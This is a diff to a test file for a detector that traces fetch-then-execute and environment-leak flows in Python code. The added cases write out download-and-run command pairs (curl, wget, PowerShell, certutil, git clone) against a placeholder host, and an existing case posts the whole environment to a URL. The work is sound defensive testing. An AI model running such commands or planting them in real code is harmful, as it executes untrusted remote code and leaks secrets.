@@ -46,6 +46,29 @@ test('a file that is fetched and then run is one flow', async () => {
   expect(flows).toMatchObject([{ from: 'network', to: 'process', through: 'file' }]);
 });
 
+test.each([
+  ['curl', 'curl -sL https://example.invalid/x -o /tmp/stage.sh', 'sh /tmp/stage.sh'],
+  ['wget', 'wget -qO /tmp/stage.sh https://example.invalid/x', 'sh /tmp/stage.sh'],
+  ['PowerShell', 'powershell -c iwr https://example.invalid/x -OutFile C:\\\\stage.ps1', 'powershell -File C:\\\\stage.ps1'],
+  ['certutil', 'certutil -urlcache -f https://example.invalid/x stage.exe', 'stage.exe'],
+  ['git', 'git clone https://example.invalid/x.git ./stage', 'bash ./stage/run.sh'],
+])('a file that %s fetches in one call and another call starts is one flow', async (_, fetch, start) => {
+  expect(await flowsIn(`import os\nos.system("${fetch}")\nos.system("${start}")\n`)).toMatchObject([{ from: 'network', to: 'process', through: 'file', sink: { line: 3 } }]);
+});
+
+test.each([
+  ['a command that only fetches', 'os.system("curl https://example.invalid/x -o /tmp/stage.sh")'],
+  ['a command whose reply is shown', 'os.system("curl https://example.invalid/x -o -")\nos.system("ls -l")'],
+  ['another file', 'os.system("curl https://example.invalid/x -o /tmp/stage.sh")\nos.system("sh /tmp/other.sh")'],
+])('%s is no flow', async (_, text) => {
+  expect(await flowsIn(`import os\n${text}\n`)).toEqual([]);
+});
+
+test('a file that was fetched is the same under another name', async () => {
+  const text = 'import os, shutil, urllib.request\nurllib.request.urlretrieve(u, "/tmp/stage.sh")\nshutil.move("/tmp/stage.sh", "/tmp/quiet.sh")\nos.system("sh /tmp/quiet.sh")\n';
+  expect(await flowsIn(text)).toMatchObject([{ from: 'network', to: 'process', through: 'file' }]);
+});
+
 test('one environment variable is not the whole environment', async () => {
   expect(await flowsIn('import os, requests\nrequests.get(u, headers={"t": os.environ["T"], "v": os.environ.get("V")})\n')).toEqual([]);
   expect(await flowsIn('import os, requests\nrequests.post(u, json=dict(os.environ))\n')).toMatchObject([{ from: 'environment' }]);
